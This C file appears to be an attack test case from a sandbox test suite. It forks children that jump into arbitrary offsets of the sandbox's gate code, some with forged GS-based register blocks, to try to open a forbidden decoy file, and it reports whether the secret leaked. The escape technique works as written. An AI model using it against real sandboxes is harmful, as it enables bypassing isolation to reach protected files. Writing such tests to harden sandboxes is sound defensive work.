/* A40: jumps to any byte of the code that keeps registers in blocks, with blocks that it has written itself. */
/* Walls: supervisor */
/* Options: --gate 1 --enter-gate */
#include "gate.h"
#include <sys/auxv.h>
#include <sys/time.h>

enum { HIGHEST = 64, WAYS = 3, WORDS = 64, JUMPS = 120 };
#define RESOLVING 0x7c1df000UL
#define SHARED_SIZE 0x8000
#define BLOCKS 0x7d000000UL

static struct range gate[2];

/* A block, or what is taken for one, that leads everywhere: each word is an address of the gate, or the forbidden path. */
static void forge(uint64_t *block, uintptr_t target, const char *path, int way)
{
    for (int i = 0; i < WORDS; i++)
        block[i] = way == 1 ? target : (uintptr_t)path;
    block[6] = SYS_open;
    block[1] = 0;
    block[0] = (uintptr_t)path;
    block[14] = way == 2 ? gate[0].start + 24 + (uintptr_t)target % 128 : block[14];
    block[15] = way == 2 ? (uint64_t)-0x80000000L : block[15];
}

/* A child that shares descriptors opens what it must not, from an address of the gate, and comes out wherever it does. */
static void jump(uintptr_t target, const char *path, int way)
{
    pid_t pid = (pid_t)syscall(SYS_clone, CLONE_FILES | SIGCHLD, NULL, NULL, NULL, NULL);
    CHECK(pid >= 0);
    if (pid == 0) {
        setitimer(ITIMER_PROF, &(struct itimerval){{0, 0}, {0, 2000}}, NULL);
        setitimer(ITIMER_REAL, &(struct itimerval){{0, 0}, {0, 100000}}, NULL);
        uint64_t *block = (uint64_t *)BLOCKS;
        if (way && getauxval(AT_HWCAP2) & 2) {
            forge(block, target, path, way);
            __asm__ volatile("wrgsbase %0" : : "r"(block));
        }
        __asm__ volatile("movq %1, %%r11\n  movq %3, %%rcx\n  jmp *%1"
                         :
                         : "a"((long)SYS_open), "r"(target), "D"(path), "r"(block), "S"(0L), "d"(0L)
                         : "rcx", "r11", "memory");
        __builtin_unreachable();
    }
    wait_status(pid);
    for (int fd = 3; fd < HIGHEST; fd++)
        GOT_IF(holds_secret(fd), "what it must not open, by a jump into the gate\n");
}

int main(void)
{
    begin();
    const char *path = decoy("ATTACK_FORBIDDEN");
    if (find_gate(gate) != 2) {
        LACKS("a gate");
        return 0;
    }
    uint8_t code[SHARED_SIZE];
    uintptr_t start = gate[0].start + 0x1c0000 - SHARED_SIZE;
    CHECK(look_at(start, code, sizeof code));
    size_t length = SHARED_SIZE - 0x1000;
    while (length && !code[length - 1])
        length--;
    CHECK(length > 256);
    /* Other bytes in each run: a jump that goes nowhere takes its time. */
    size_t step = length / JUMPS + 1;
    for (int way = 0; way < WAYS; way++) {
        for (size_t i = (size_t)getpid() % step; i < length; i += step)
            jump(start + i, path, way);
        /* Where it asks what names mean. */
        for (uintptr_t i = 0; i < 3; i++)
            jump(RESOLVING + i, path, way);
    }
    return 0;
}
